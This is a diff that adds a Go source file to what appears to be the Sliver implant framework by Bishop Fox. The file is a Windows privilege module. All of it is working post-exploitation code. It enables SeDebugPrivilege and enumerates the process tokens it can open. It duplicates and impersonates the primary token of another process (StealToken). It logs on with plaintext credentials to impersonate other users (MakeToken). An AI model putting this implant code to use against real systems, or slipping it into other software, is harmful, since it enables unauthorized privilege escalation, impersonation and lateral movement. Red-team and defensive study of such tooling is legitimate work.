@@ -0,0 +1,186 @@
+// +build windows
+
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+	"fmt"
+
+	"golang.org/x/sys/windows"
+
+	"github.com/bishopfox/sliver/sliver/ps"
+	"github.com/bishopfox/sliver/sliver/syscalls"
+)
+
+const (
+	LOGON32_LOGON_INTERACTIVE     = 2
+	LOGON32_LOGON_NEW_CREDENTIALS = 9
+	LOGON32_PROVIDER_DEFAULT      = 0
+	LOGON32_PROVIDER_WINNT50      = 3
+)
+
+// Token - The identity of a process' primary token
+type Token struct {
+	Pid            uint32
+	Executable     string
+	Username       string
+	IntegrityLevel string
+}
+
+// ListTokens - List the primary tokens of every process we can open
+func ListTokens() ([]Token, error) {
+	// Best effort, without SeDebugPrivilege we just see fewer processes
+	SePrivEnable("SeDebugPrivilege")
+	procs, err := ps.Processes()
+	if err != nil {
+		return nil, err
+	}
+	tokens := []Token{}
+	for _, proc := range procs {
+		token, err := openProcessToken(uint32(proc.Pid()), windows.TOKEN_QUERY)
+		if err != nil {
+			continue
+		}
+		username, err := tokenUsername(token)
+		if err == nil {
+			tokens = append(tokens, Token{
+				Pid:            uint32(proc.Pid()),
+				Executable:     proc.Executable(),
+				Username:       username,
+				IntegrityLevel: ps.IntegrityLevel(token),
+			})
+		}
+		token.Close()
+	}
+	return tokens, nil
+}
+
+// StealToken - Impersonate the primary token of process pid, returns the
+// username of the token
+func StealToken(pid uint32) (string, error) {
+	SePrivEnable("SeDebugPrivilege")
+	primaryToken, err := getPrimaryToken(pid)
+	if err != nil {
+		return "", err
+	}
+	defer primaryToken.Close()
+	var attr windows.SecurityAttributes
+	var token windows.Token
+	err = windows.DuplicateTokenEx(*primaryToken, windows.TOKEN_ALL_ACCESS, &attr, windows.SecurityImpersonation, windows.TokenPrimary, &token)
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("DuplicateTokenEx failed:", err)
+		// {{end}}
+		return "", err
+	}
+	username, err := tokenUsername(token)
+	if err != nil {
+		token.Close()
+		return "", err
+	}
+	return username, useToken(token)
+}
+
+// MakeToken - Create a token from plaintext credentials and impersonate it.
+// Unless interactive is set, the token keeps our local identity and the
+// credentials are only used for network access (like runas /netonly).
+func MakeToken(username, domain, password string, interactive bool) (string, error) {
+	if domain == "" {
+		domain = "."
+	}
+	token, err := logonUser(username, domain, password, interactive)
+	if err != nil {
+		return "", err
+	}
+	return fmt.Sprintf("%s\\%s", domain, username), useToken(token)
+}
+
+func logonUser(username, domain, password string, interactive bool) (windows.Token, error) {
+	logonType := uint32(LOGON32_LOGON_NEW_CREDENTIALS)
+	logonProvider := uint32(LOGON32_PROVIDER_WINNT50)
+	if interactive {
+		logonType = LOGON32_LOGON_INTERACTIVE
+		logonProvider = LOGON32_PROVIDER_DEFAULT
+	}
+	var token windows.Token
+	usernamePtr, err := windows.UTF16PtrFromString(username)
+	if err != nil {
+		return token, err
+	}
+	// Must be NULL for a UPN
+	var domainPtr *uint16
+	if domain != "" {
+		domainPtr, err = windows.UTF16PtrFromString(domain)
+		if err != nil {
+			return token, err
+		}
+	}
+	passwordPtr, err := windows.UTF16PtrFromString(password)
+	if err != nil {
+		return token, err
+	}
+	err = syscalls.LogonUser(usernamePtr, domainPtr, passwordPtr, logonType, logonProvider, &token)
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("LogonUser failed:", err)
+		// {{end}}
+	}
+	return token, err
+}
+
+// useToken - Impersonate token on the calling thread and use it for new processes
+func useToken(token windows.Token) error {
+	err := syscalls.ImpersonateLoggedOnUser(token)
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("ImpersonateLoggedOnUser failed:", err)
+		// {{end}}
+		token.Close()
+		return err
+	}
+	CurrentToken = token
+	return nil
+}
+
+func openProcessToken(pid uint32, access uint32) (windows.Token, error) {
+	var token windows.Token
+	handle, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, pid)
+	if err != nil {
+		return token, err
+	}
+	defer windows.CloseHandle(handle)
+	err = windows.OpenProcessToken(handle, access, &token)
+	return token, err
+}
+
+func tokenUsername(token windows.Token) (string, error) {
+	user, err := token.GetTokenUser()
+	if err != nil {
+		return "", err
+	}
+	account, domain, _, err := user.User.Sid.LookupAccount("")
+	if err != nil {
+		return "", err
+	}
+	return fmt.Sprintf("%s\\%s", domain, account), nil
+}